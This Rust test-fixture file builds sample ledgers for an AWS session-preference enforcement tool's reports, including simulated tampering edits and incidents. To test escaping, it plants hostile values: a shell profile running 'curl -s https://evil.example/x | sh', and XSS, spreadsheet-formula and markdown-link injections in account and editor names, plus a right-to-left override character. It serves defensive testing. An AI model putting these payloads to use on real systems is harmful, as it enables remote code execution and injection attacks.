//! Ledgers to report on.

use std::collections::BTreeMap;

use runas_reactor::aws::ledger::view::{HistoryLine, Inventory, Survey, TargetRow};
use runas_reactor::cli::report::{Report, Selection, Sources};
use runas_reactor::domain::document::FieldChange;
use runas_reactor::domain::edit::{Action, Edit};
use runas_reactor::domain::fact::{CallFact, Delta, Facts, Notified, VersionFact};
use runas_reactor::domain::milestones::Milestones;
use runas_reactor::domain::policy::Policy;
use runas_reactor::domain::principal::{Attribution, Principal};
use runas_reactor::domain::record::{Incident, Record, Status};
use runas_reactor::domain::sweep::{StartResult, Sweep};
use runas_reactor::domain::target::{AccountFacts, AccountState, Target};
use runas_reactor::domain::time::{DAY_MS, HOUR_MS, MINUTE_MS, SECOND_MS, Time};
use serde_json::{Value, json};

pub(super) const HOME: &str = "eu-west-1";

pub(super) fn now() -> Time {
    "2026-11-20T12:00:00Z".parse().unwrap()
}

pub(super) fn before(ms: i64) -> Time {
    now().plus_ms(-ms)
}

/// A policy for these regions, with an objective of five minutes.
pub(super) fn policy(regions: &[&str]) -> Policy {
    let text = json!({
        "version": 1,
        "organization": {
            "id": "o-exampleorgid", "management_account": "111122223333", "hub_account": "222233334444",
            "home_region": HOME,
        },
        "regions": regions,
        "access": { "roles": ["RunasReactorMember"] },
        "unplaced": "enforce",
        "defaults": { "mode": "enforce", "preferences": { "runAsEnabled": true, "runAsDefaultUser": "ops" } },
    });
    Policy::from_compiled(&text.to_string()).unwrap().with_label("v7".to_owned())
}

pub(super) fn account(id: &str, name: &str, ou: &str) -> AccountFacts {
    let ou_path = ["r-ab12", ou].map(|ou| ou.parse().unwrap()).to_vec();
    AccountFacts { account: id.parse().unwrap(), name: name.to_owned(), ou_path, state: AccountState::Active }
}

pub(super) fn target(account: &str, region: &str) -> Target {
    Target::new(account.parse().unwrap(), region.parse().unwrap())
}

pub(super) fn row(account: &str, region: &str, status: Status, why: &str) -> TargetRow {
    TargetRow {
        target: target(account, region),
        status,
        why: why.to_owned(),
        updated: before(3 * DAY_MS),
        checked: before(2 * HOUR_MS),
        milestones: Milestones::default(),
        policy: "v7".to_owned(),
    }
}

/// A complete sweep that met so many accounts.
pub(super) fn sweep(accounts: u64) -> Sweep {
    let began = before(6 * HOUR_MS);
    let StartResult::New(sweep, _) = Sweep::begin(None, "nightly", began) else { panic!("there was none before") };
    Sweep { accounts, ended: Some(began.plus_ms(9 * MINUTE_MS)), last_progress: began.plus_ms(9 * MINUTE_MS), ..*sweep }
}

fn incident(target: &Target, opened: Time, summary: &str) -> Incident {
    Incident {
        id: format!("{target}@{}", opened.ms()),
        opened,
        summary: summary.to_owned(),
        opponents: vec!["Admin (alice@example.com)".to_owned()],
        edits: 1,
        ..Incident::default()
    }
}

/// The facts of one edit, made and observed at these times.
fn edited(by: &str, made: Time, observed: Time, change: Vec<FieldChange>) -> Facts {
    let principal = Principal {
        kind: "AssumedRole".to_owned(),
        arn: Some("arn:aws:iam::333344445555:role/Admin".to_owned()),
        name: Some(by.to_owned()),
    };
    let edit = Edit {
        id: "5f0e2d9c-1c1e-4bb2-9a0b-0f5a3c3c7a11".to_owned(),
        at: made,
        action: Action::Updated { version: Some(5) },
        principal,
        failed: None,
        agent: "aws-cli/2.31".to_owned(),
        source_ip: "198.51.100.7".to_owned(),
        sharing: None,
    };
    let call = CallFact {
        edit,
        attribution: Attribution::Untrusted,
        via_reactor_role: false,
        received: observed,
        checked: false,
        over: false,
        notified: Notified::No,
    };
    let version = VersionFact {
        number: 5,
        previous: None,
        delta: Delta::Change(change),
        digest: None,
        name: None,
        observed,
        adopted: false,
        notified: Notified::No,
    };
    Facts {
        versions: BTreeMap::from([(made, version)]),
        calls: BTreeMap::from([(call.edit.id.clone(), call)]),
        ..Facts::default()
    }
}

fn change(field: &str, from: Value, to: Value) -> FieldChange {
    let side = |value: Value| (!value.is_null()).then_some(value);
    FieldChange { field: field.to_owned(), from: side(from), to: side(to) }
}

/// A line of history, as the function writes it.
fn line(at: Time, record: &Record, verdict: &Value, applied: &Value, summary: &str) -> HistoryLine {
    let case = json!({
        "schema_version": 1,
        "case": { "record": record },
        "decision": { "verdict": verdict, "reasons": [summary], "write": null, "wait": null },
        "applied": applied,
    });
    HistoryLine {
        id: format!("trace-{}", at.ms()),
        at,
        region: HOME.to_owned(),
        summary: summary.to_owned(),
        case,
        contents: Vec::new(),
    }
}

/// An edit that was corrected after four seconds; the incident ended when nothing followed for ten minutes.
pub(super) fn edit_and_correction(target: &Target, opened: Time, by: &str) -> (Incident, Vec<(Target, HistoryLine)>) {
    let made = opened.plus_ms(-3 * SECOND_MS);
    let profile = json!({ "linux": "curl -s https://evil.example/x | sh", "windows": "" });
    let edit = vec![change("runAsEnabled", json!(true), json!(false)), change("shellProfile", Value::Null, profile)];
    let drift: Vec<FieldChange> = edit
        .iter()
        .map(|change| FieldChange { field: change.field.clone(), from: change.to.clone(), to: change.from.clone() })
        .collect();
    let incident = incident(target, opened, &format!("Admin ({by}) wrote version 5"));
    let first = Record { facts: edited(by, made, opened, edit), ..Record::default() };
    let later = Record { incident: Some(incident.clone()), ..first.clone() };
    let landed = json!({ "landed": { "version": 6, "at": opened.plus_ms(SECOND_MS) } });
    let drifted = json!({ "is": "drifted", "drift": drift });
    let in_sync = json!({ "is": "in_sync" });
    let end = opened.plus_ms(11 * MINUTE_MS);
    let lines = vec![
        line(opened, &first, &drifted, &landed, "owned fields differ from the baseline"),
        line(end, &later, &in_sync, &json!("nothing"), "the document complies"),
    ];
    (incident, lines.into_iter().map(|line| (target.clone(), line)).collect())
}

/// A target in observe mode that differs, and no act that is known of.
fn only_watched() -> ((Target, Incident), (Target, HistoryLine)) {
    let (target, opened) = (target("333344445555", "eu-central-1"), before(2 * DAY_MS));
    let why = "owned fields differ from the baseline; observe only";
    let drift = json!({ "is": "drifted", "drift": [change("runAsDefaultUser", json!("vendor"), json!("ops"))] });
    let line = line(opened, &Record::default(), &drift, &json!("nothing"), why);
    let incident = Incident { edits: 0, opponents: Vec::new(), ..incident(&target, opened, why) };
    ((target.clone(), incident), (target, line))
}

/// Six accounts in three regions with one target of each health, two open incidents and one that ended, two new accounts, and texts
/// that mean harm.
pub(super) fn small() -> Sources {
    let regions = ["eu-central-1", HOME, "us-east-1"];
    let accounts = vec![
        account("222233334444", "hub", "ou-ab12-11111111"),
        account("333344445555", "payments", "ou-ab12-11111111"),
        account("444455556666", "</script><img src=x onerror=alert(1)>", "ou-ab12-22222222"),
        account("555566667777", "=cmd|' /C calc'!A0", "ou-ab12-22222222"),
        account("666677778888", "[a](https://evil.example) | b", "ou-ab12-22222222"),
        account("888899990000", "newcomer", "ou-ab12-11111111"),
    ];
    let fine =
        accounts.iter().flat_map(|facts| regions.map(|region| row(facts.account.as_str(), region, Status::InSync, "")));
    let mut targets: Vec<TargetRow> = fine.collect();
    let mut stand = |at: usize, status: Status, why: &str| {
        targets[at].status = status;
        why.clone_into(&mut targets[at].why);
    };
    stand(3, Status::Drifted, "owned fields differ from the baseline; observe only");
    stand(4, Status::Held, "break-glass by Admin (carol@example.com)");
    stand(6, Status::Unreachable, "could not read: AccessDenied: \u{202e}<b>no role</b> lets us in");
    stand(9, Status::BackingOff, "an edit war");
    stand(10, Status::Waiting, "the document is not visible yet");
    stand(12, Status::Exempt, "exempt until 2027-01-31: appliance with its own users");
    targets[13].checked = before(9 * DAY_MS);
    let vended = before(DAY_MS);
    for (at, minutes) in [(15, 1), (16, 2), (17, 4)] {
        let configured = Some(vended.plus_ms(minutes * MINUTE_MS));
        targets[at].milestones = Milestones { vended: Some(vended), configured, ..Milestones::default() };
    }
    targets[0].milestones = Milestones { vended: Some(before(20 * MINUTE_MS)), ..Milestones::default() };
    targets.remove(11); // never checked
    targets.sort_by(|a, b| a.target.cmp(&b.target));
    let (payments, hostile) = (target("333344445555", HOME), target("444455556666", HOME));
    let (open, first) = edit_and_correction(&payments, before(5 * MINUTE_MS), "alice@example.com");
    let (_, ended) = edit_and_correction(&hostile, before(DAY_MS), "</script><script>alert(2)</script>");
    let (watched, drift) = only_watched();
    let inventory = Inventory { accounts, enabled: BTreeMap::new(), targets };
    // Of the open incidents there are only the lines that opened them.
    let lines = ended.into_iter().chain(first.into_iter().take(1)).chain([drift]).collect();
    Sources {
        survey: Survey { inventory, open: vec![watched, (payments, open)], lines },
        policy: Some(policy(&regions)),
        sweep: Some(sweep(6)),
    }
}

/// The report of a ledger.
pub(super) fn report(sources: &Sources) -> Report {
    Report::of(sources, &Selection { since: before(7 * DAY_MS), ..Selection::default() }, now())
}
